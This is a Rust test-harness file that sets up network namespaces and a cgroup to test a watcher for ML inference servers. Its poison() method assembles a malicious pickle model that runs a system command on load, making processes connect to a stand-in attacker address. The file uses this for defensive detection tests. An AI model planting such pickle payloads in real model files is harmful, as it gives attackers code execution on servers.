//! [`Field`]: two network namespaces with a cable between them, a cgroup, and the processes in them. All of it
//! goes when the test ends.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use wb_testkit::{Scratch, pickle};

/// The inference server.
pub const SERVER: &str = "192.0.2.10";
/// A service it may use.
pub const STORE: &str = "192.0.2.20";
/// The name server.
pub const RESOLVER: &str = "192.0.2.53";
/// The attacker.
pub const ATTACKER: &str = "192.0.2.66";

pub struct Field {
    pub scratch: Scratch,
    name: String,
    pub cgroup: PathBuf,
    children: Vec<Child>,
}

/// The folder at which control groups of version 2 are mounted.
fn cgroups() -> Option<PathBuf> {
    let mounts = fs::read_to_string("/proc/self/mounts").ok()?;
    let line = mounts.lines().find(|line| line.split(' ').nth(2) == Some("cgroup2"))?;
    line.split(' ').nth(1).map(PathBuf::from)
}

fn run(command: &str) -> Result<String, String> {
    let output =
        Command::new("sh").args(["-c", command]).output().map_err(|error| error.to_string())?;
    if output.status.success() {
        return Ok(String::from_utf8_lossy(&output.stdout).into_owned());
    }
    Err(format!("`{command}`: {}", String::from_utf8_lossy(&output.stderr).trim()))
}

impl Field {
    /// Makes it; says why when that is not possible here.
    pub fn new(name: &str) -> Result<Self, String> {
        let root = cgroups().ok_or("control groups of version 2 are not mounted")?;
        let name = format!("wb{}{name}", std::process::id());
        let cgroup = root.join(&name);
        run("python3 --version && ip -V")?;
        fs::create_dir(&cgroup).map_err(|error| format!("no cgroup can be made: {error}"))?;
        let field = Self { scratch: Scratch::new(), name, cgroup, children: Vec::new() };
        field.cable()?;
        fs::create_dir_all(field.scratch.folder().join("models"))
            .map_err(|error| error.to_string())?;
        fs::write(field.scratch.folder().join("host.py"), include_str!("host.py"))
            .map_err(|error| error.to_string())?;
        field.clean()?;
        Ok(field)
    }

    fn cable(&self) -> Result<(), String> {
        let (inside, outside) = (self.inside(), self.outside());
        run(&format!("ip netns add {inside} && ip netns add {outside}"))?;
        let (a, b) = (format!("{}a", self.name), format!("{}b", self.name));
        run(&format!(
            "ip -n {inside} link add {a} type veth peer name {b} netns {outside} && \
             ip -n {inside} addr add {SERVER}/24 dev {a} && ip -n {inside} link set {a} up && \
             ip -n {inside} link set lo up && ip -n {outside} link set lo up && ip -n {outside} link set {b} up"
        ))?;
        for address in [STORE, RESOLVER, ATTACKER] {
            run(&format!("ip -n {outside} addr add {address}/24 dev {b}"))?;
        }
        Ok(())
    }

    fn inside(&self) -> String {
        format!("{}-in", self.name)
    }

    fn outside(&self) -> String {
        format!("{}-out", self.name)
    }

    /// Where the model lies.
    pub fn model(&self) -> PathBuf {
        self.scratch.folder().join("models/production_model.pkl")
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.scratch.folder().join(name)
    }

    fn host(&self, arguments: &str) -> Result<String, String> {
        run(&format!("python3 {} {arguments}", self.path("host.py").display()))
    }

    /// Starts a host outside.
    pub fn start_outside(&mut self, arguments: &str) {
        let command = format!(
            "exec ip netns exec {} python3 {} {arguments}",
            self.outside(),
            self.path("host.py").display()
        );
        self.spawn(&command);
    }

    /// Starts the inference server in its namespace and cgroup.
    pub fn start_server(&mut self) {
        let command = format!(
            "echo $$ > {}/cgroup.procs && exec ip netns exec {} python3 {} serve {} 8000",
            self.cgroup.display(),
            self.inside(),
            self.path("host.py").display(),
            self.model().display()
        );
        self.spawn(&command);
        wait("the server answers", || self.ask("/").is_ok());
    }

    /// Runs a command in the server's network namespace.
    pub fn run_inside(&self, command: &str) -> Result<String, String> {
        run(&format!("ip netns exec {} sh -c \"{command}\"", self.inside()))
    }

    /// Sends a datagram from outside to the server.
    pub fn knock(&self) {
        let sent = run(&format!(
            "ip netns exec {} python3 -c 'import socket; socket.socket(2, 2).sendto(b\"?\", (\"{SERVER}\", 9))'",
            self.outside()
        ));
        sent.expect("it can be sent");
    }

    fn spawn(&mut self, command: &str) {
        let child = Command::new("sh").args(["-c", command]).stdin(Stdio::null()).spawn();
        self.children.push(child.expect("a shell is there"));
    }

    /// Asks the inference server.
    pub fn ask(&self, path: &str) -> Result<String, String> {
        run(&format!(
            "ip netns exec {} python3 {} ask 8000 {path} 2>/dev/null",
            self.inside(),
            self.path("host.py").display()
        ))
        .map(|reply| reply.trim().to_owned())
    }

    /// How many connections a listener counted.
    pub fn counted(&self, name: &str) -> u64 {
        let text = fs::read_to_string(self.path(name)).unwrap_or_default();
        text.parse().unwrap_or(0)
    }

    fn clean(&self) -> Result<String, String> {
        self.host(&format!("clean {}", self.model().display()))
    }

    /// Puts the clean model back.
    pub fn heal(&self) {
        self.clean().expect("it can be written");
    }

    /// Swaps in a model that runs a command when it is loaded: `count` processes that connect to the attacker.
    pub fn poison(&self, count: u32) {
        let script = self.path("host.py");
        let command = format!("python3 {} beacon {ATTACKER} 8080 {count}", script.display());
        let text = format!("GLOBAL posix system\nBINUNICODE {command}\nTUPLE1\nREDUCE\nSTOP");
        fs::write(self.model(), pickle(&text).expect("it is assembled"))
            .expect("it can be written");
    }
}

impl Drop for Field {
    fn drop(&mut self) {
        for child in &mut self.children {
            drop(child.kill());
            drop(child.wait());
        }
        let members = fs::read_to_string(self.cgroup.join("cgroup.procs")).unwrap_or_default();
        for pid in members.lines() {
            drop(run(&format!("kill -9 {pid}")));
        }
        for namespace in [self.inside(), self.outside()] {
            drop(run(&format!("ip netns del {namespace}")));
        }
        let gone = Instant::now();
        while fs::remove_dir(&self.cgroup).is_err() && gone.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// Waits until something holds.
pub fn wait(what: &str, mut holds: impl FnMut() -> bool) {
    let start = Instant::now();
    while !holds() {
        assert!(start.elapsed() < Duration::from_secs(180), "waited too long: {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The command, watching in the background; it is stopped when this goes.
pub struct Watch {
    child: Child,
    said: PathBuf,
}

impl Watch {
    /// Starts it, and waits until it watches.
    pub fn start(field: &Field, policy: &Path) -> Self {
        Self::begin(field, policy, Command::new(env!("CARGO_BIN_EXE_weighbridge")), &[])
    }

    /// The same with lesser sensors, in the network namespace of the server.
    pub fn start_inside(field: &Field, policy: &Path, arguments: &[&str]) -> Self {
        let mut command = Command::new("nsenter");
        command.arg(format!("--net=/run/netns/{}", field.inside()));
        command.arg(env!("CARGO_BIN_EXE_weighbridge"));
        Self::begin(field, policy, command, arguments)
    }

    fn begin(field: &Field, policy: &Path, mut command: Command, arguments: &[&str]) -> Self {
        let said = field.path("watch.said");
        let file = fs::File::create(&said).expect("it can be made");
        let child = command
            .args(["watch", "--policy"])
            .arg(policy)
            .args(arguments)
            .stdout(file.try_clone().expect("it can be shared"))
            .stderr(file)
            .spawn()
            .expect("the command is there");
        let mut watch = Self { child, said };
        wait("the watch begins", || watch.said().contains("note: models:") || watch.is_over());
        watch
    }

    /// What it has said so far.
    pub fn said(&self) -> String {
        fs::read_to_string(&self.said).unwrap_or_default()
    }

    pub fn is_over(&mut self) -> bool {
        self.child.try_wait().is_ok_and(|status| status.is_some())
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Ends it as an administrator would, and waits.
    pub fn stop(&mut self) {
        drop(run(&format!("kill -TERM {}", self.pid())));
        drop(self.child.wait());
    }

    /// Kills it without warning.
    pub fn kill(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

impl Drop for Watch {
    fn drop(&mut self) {
        self.kill();
    }
}
